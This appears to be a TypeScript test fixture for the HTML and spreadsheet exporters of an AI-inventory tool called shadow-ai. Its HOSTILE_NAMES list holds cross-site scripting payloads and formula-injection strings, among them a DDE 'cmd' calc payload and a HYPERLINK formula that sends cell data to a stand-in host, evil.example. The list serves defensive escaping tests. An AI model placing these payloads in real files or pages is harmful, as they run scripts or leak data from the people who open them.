/**
 * Test records for the exporters: a real inventory, made by the built CLI (dist/, which `npm test`
 * builds first) from the bundled examples, with governance set through `review` on a few records;
 * and hostile variants of real records (markup, formula and control characters in every free-text
 * field a scan or a reviewer can fill).
 */
import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import type { AISystemRecord } from "../../src/core/finding.js";
import { openStore } from "../../src/store/db.js";
import { evidenceFor } from "../../src/store/evidence.js";
import { governanceHistory } from "../../src/store/governance.js";
import { readAuditTrail, type RecordAudit } from "../audit.js";

const root = resolve(import.meta.dirname, "../..");
const bin = join(root, "dist/src/cli/main.js");

function cli(args: string[]): string {
  if (!existsSync(bin)) throw new Error(`${bin} is missing: run \`npm run build\` first (npm test does)`);
  const r = spawnSync(process.execPath, [bin, ...args], { encoding: "utf8", cwd: root, maxBuffer: 64 << 20 });
  if (r.status !== 0) throw new Error(`shadow-ai ${args.join(" ")} exited ${r.status}: ${r.stderr}`);
  return r.stdout;
}

let cached: { json: string; records: AISystemRecord[]; db: string } | undefined;

/** `inventory --json` of the bundled examples, with governance on three records (raw text and parsed). */
export function realInventory(): { json: string; records: AISystemRecord[]; db: string } {
  if (cached) return cached;
  const db = join(mkdtempSync(join(tmpdir(), "shadow-ai-reports-")), "inv.db");
  cli(["--db", db, "--config", join(root, "examples/shadow-ai.yaml"), "scan"]);
  cli(["--db", db, "review", "hirevue@hr", "--owner", "hank@example.com", "--status", "under_review", "--purpose", "Screening video interviews; questions to erin@example.com or 127.0.0.21",
    "--use", "recruitment", "--oversight", "Talent lead reviews every ranking", "--as", "auditor"]);
  cli(["--db", db, "review", "openai-chatgpt@marketing", "--owner", "Marketing Ops", "--status", "sanctioned", "--purpose", "Drafting campaign copy", "--exposure", "internal", "--as", "auditor"]);
  cli(["--db", db, "review", "deepseek", "--status", "blocked", "--class", "minimal", "--why", "Blocked at the proxy; no business use", "--as", "auditor"]);
  const json = cli(["--db", db, "inventory", "--json"]);
  cached = { json, records: JSON.parse(json) as AISystemRecord[], db };
  return cached;
}

/** The journal and evidence sample of every record of {@link realInventory}, read from its database. */
export function realAudit(): Map<string, RecordAudit> {
  const { records, db: path } = realInventory();
  const db = openStore(path, { readonly: true });
  try {
    return readAuditTrail(db, records.map((r) => r.id), { governanceHistory, evidenceFor });
  } finally {
    db.close();
  }
}

/**
 * {@link realAudit} plus, for each hostile record of {@link hostileRecords}, a journal entry and an
 * evidence item whose every string is the hostile name (the evidence is attacker-controlled; a
 * reviewer's reason is free text).
 */
export function hostileAudit(): Map<string, RecordAudit> {
  const audit = realAudit();
  HOSTILE_NAMES.forEach((h, i) => {
    audit.set(`hostile-${i}@x`, {
      journal: [{ at: "2026-11-21T10:00:00.000Z", by: h, field: "status", old: h, new: "blocked", why: h }],
      evidence: [{ time: "2026-11-21T09:00:00.000Z", source: "pcap", kind: "tls", user: h, client: h, host: h, app: h, action: h, matched: `domain: ${h}`, refs: [{ file: h, frame: 7, offset: 1234 }, { api: h, id: h }], count: 2, lastTime: "2026-11-21T09:30:00.000Z", bytes: null }],
    });
  });
  return audit;
}

/** Names that must show as text in HTML and must not evaluate in a spreadsheet. */
export const HOSTILE_NAMES = [
  "<img src=x onerror=alert(1)>",
  '"><script>alert(2)</script>',
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "Quote \"in\" name, with comma",
  "multi\nline\r\nname",
  "</style><style>body{display:none}</style>",
  "<svg onload=alert(3)>",
  "javascript:alert(4)",
  "&lt;already escaped&gt; & ampersand ' apostrophe",
] as const;

/** Deep copy. */
function clone<T>(x: T): T {
  return JSON.parse(JSON.stringify(x)) as T;
}

/**
 * Real records plus one hostile record per HOSTILE_NAMES entry: each a copy of a real record with
 * the name, vendor, org unit, owner, purpose, oversight, rationale, a user id, a job title, a scope,
 * a matched identifier and an evidence kind set to the hostile string (ids stay unique).
 */
export function hostileRecords(): AISystemRecord[] {
  const base = realInventory().records;
  const template = base.find((r) => r.id === "hirevue@hr") ?? base[0]!;
  const hostile = HOSTILE_NAMES.map((h, i) => {
    const r = clone(template);
    r.id = `hostile-${i}@x`;
    r.serviceId = `hostile-${i}`;
    r.name = h;
    r.vendor = h;
    r.orgUnit = h;
    r.owner = h;
    r.governance.owner = h;
    r.governance.purpose = h;
    r.governance.oversight = h;
    r.governance.classOverride = { tier: "high_risk", why: h };
    r.classification.rationale = `${h} — rationale`;
    r.jobTitles = [h];
    r.scopes = [h, ...r.scopes];
    r.matchedBy = [`domain:${h}`, ...r.matchedBy];
    r.evidence = { [h]: 1, ...r.evidence };
    r.users = [{ id: h, kind: "user", department: h, observations: 1, firstSeen: r.firstSeen, lastSeen: r.lastSeen }, ...r.users];
    r.risk.factors = r.risk.factors.map((f) => ({ ...f, detail: `${f.detail} ${h}` }));
    return r;
  });
  return [...base, ...hostile];
}
